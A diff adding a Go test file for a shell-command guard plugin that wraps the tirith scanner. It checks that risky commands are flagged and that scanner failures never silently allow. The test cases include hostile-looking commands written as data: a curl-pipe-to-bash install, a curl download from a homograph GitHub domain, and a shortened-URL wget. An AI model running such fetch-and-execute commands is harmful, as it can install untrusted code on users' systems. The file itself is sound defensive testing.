@@ -1,0 +1,174 @@
+package tirith_test
+
+import (
+	"context"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/hguard/hguard/dsl"
+	"github.com/hguard/hguard/plugins"
+)
+
+// TirithEnv names the real tirith binary (npm @sheeki03/tirith-linux-x64@0.4.2).
+const TirithEnv = "HGUARD_TEST_TIRITH"
+
+func realTirith(t testing.TB) string {
+	p := os.Getenv(TirithEnv)
+	if p == "" {
+		t.Skip(TirithEnv + " is not set: install @sheeki03/tirith-linux-x64@0.4.2 with npm and point it at bin/tirith")
+	}
+	if _, err := os.Stat(p); err != nil {
+		t.Skipf("%s=%s: %v", TirithEnv, p, err)
+	}
+	return p
+}
+
+var (
+	buildOnce sync.Once
+	pluginBin string
+	buildErr  error
+	buildOut  []byte
+)
+
+// buildPlugin builds cmd/hguard-tirith once per test binary.
+func buildPlugin(t testing.TB) string {
+	buildOnce.Do(func() {
+		dir, err := os.MkdirTemp("", "hguard-tirith-test-")
+		if err != nil {
+			buildErr = err
+			return
+		}
+		pluginBin = filepath.Join(dir, plugins.PluginBinary)
+		buildOut, buildErr = exec.Command("go", "build", "-o", pluginBin, "./cmd/hguard-tirith").CombinedOutput()
+	})
+	if buildErr != nil {
+		t.Fatalf("go build: %v\n%s", buildErr, buildOut)
+	}
+	return pluginBin
+}
+
+func TestMain(m *testing.M) {
+	code := m.Run()
+	if pluginBin != "" {
+		os.RemoveAll(filepath.Dir(pluginBin))
+	}
+	os.Exit(code)
+}
+
+func newHost(t testing.TB, tirith string, failOpen bool, timeout time.Duration) *plugins.Host {
+	bin := buildPlugin(t)         // first: go build needs the real HOME for its cache
+	t.Setenv("HOME", t.TempDir()) // tirith keeps its logs under HOME
+	h := plugins.NewHost(plugins.HostConfig{Home: t.TempDir(), Tirith: plugins.TirithConfig{
+		Enabled: true, FailOpen: failOpen, Timeout: timeout, Path: tirith, Plugin: bin}})
+	t.Cleanup(func() { h.Close() })
+	return h
+}
+
+// TestRealTirith runs the real tirith through the plugin.
+func TestRealTirith(t *testing.T) {
+	h := newHost(t, realTirith(t), false, 10*time.Second)
+	for _, tc := range []struct {
+		name, cmd string
+		level     dsl.Level // strictest expected; Allow means no findings
+		rule      string
+	}{
+		{"homograph URL", "curl -fsSL https://gіthub.com/x/install.sh -o i.sh", dsl.Block, "tirith:non_ascii_hostname"},
+		{"curl pipe bash", "curl https://example.com/install.sh | bash", dsl.Block, "tirith:curl_pipe_shell"},
+		{"shortened URL", "wget https://bit.ly/abc", dsl.Ask, "tirith:shortened_url"},
+		{"clean", "ls -la", dsl.Allow, ""},
+		{"clean git", "git status --short", dsl.Allow, ""},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			fs := h.Check(context.Background(), plugins.Request{Original: tc.cmd, Shell: "bash"})
+			if tc.level == dsl.Allow {
+				if len(fs) != 0 {
+					t.Fatalf("findings for a clean command: %+v", fs)
+				}
+				return
+			}
+			var found bool
+			for _, f := range fs {
+				if f.Source != "plugin:tirith" || !plugins.NeverAlways(f) || f.Command != tc.cmd {
+					t.Errorf("bad finding %+v", f)
+				}
+				if f.Rule == tc.rule {
+					found = true
+					if f.Level != tc.level || !strings.HasPrefix(f.Message, "tirith: ") {
+						t.Errorf("finding %+v: want level %s", f, tc.level)
+					}
+				}
+			}
+			if !found {
+				t.Fatalf("no %s finding in %+v", tc.rule, fs)
+			}
+		})
+	}
+}
+
+// TestTirithFailure: a missing, hanging or babbling tirith is the
+// configured failure mode, never a silent allow.
+func TestTirithFailure(t *testing.T) {
+	dir := t.TempDir()
+	script := func(name, body string) string {
+		p := filepath.Join(dir, name)
+		if err := os.WriteFile(p, []byte("#!/bin/sh\n"+body+"\n"), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		return p
+	}
+	for _, tc := range []struct {
+		name, bin, want string
+	}{
+		{"missing", filepath.Join(dir, "nope"), "security.tirith_path"},
+		{"hang", script("hang", `[ "$1" = --version ] && { echo tirith 9; exit 0; }; exec sleep 30`), "within 500ms|did not answer in time"},
+		{"garbage", script("garbage", `echo '<html>'`), "not its JSON report"},
+		{"bad exit", script("exit3", `exit 3`), "status 3"},
+	} {
+		for _, open := range []bool{true, false} {
+			t.Run(tc.name, func(t *testing.T) {
+				h := newHost(t, tc.bin, open, 500*time.Millisecond)
+				start := time.Now()
+				fs := h.Check(context.Background(), plugins.Request{Original: "ls"})
+				if time.Since(start) > 5*time.Second {
+					t.Errorf("check took %s", time.Since(start))
+				}
+				want := dsl.Ask
+				if open {
+					want = dsl.Warn
+				}
+				if len(fs) != 1 || fs[0].Level != want || fs[0].Rule != plugins.RuleUnavailable || !regexp.MustCompile(tc.want).MatchString(fs[0].Message) {
+					t.Fatalf("open=%v: got %+v, want one %s finding mentioning %q", open, fs, want, tc.want)
+				}
+			})
+		}
+	}
+}
+
+// BenchmarkTirithCall is one warm call through the host, the plugin and
+// tirith; BenchmarkTirithAlone is 'tirith check' run directly.
+func BenchmarkTirithCall(b *testing.B) {
+	h := newHost(b, realTirith(b), false, 10*time.Second)
+	req := plugins.Request{Original: "git status --short"}
+	h.Check(context.Background(), req)
+	for b.Loop() {
+		if fs := h.Check(context.Background(), req); len(fs) != 0 {
+			b.Fatal(fs)
+		}
+	}
+}
+
+func BenchmarkTirithAlone(b *testing.B) {
+	bin := realTirith(b)
+	b.Setenv("HOME", b.TempDir())
+	for b.Loop() {
+		if out, err := exec.Command(bin, "check", "--format", "json", "--non-interactive", "--shell", "posix", "--offline", "--", "git status --short").Output(); err != nil {
+			b.Fatal(err, string(out))
+		}
+	}
+}
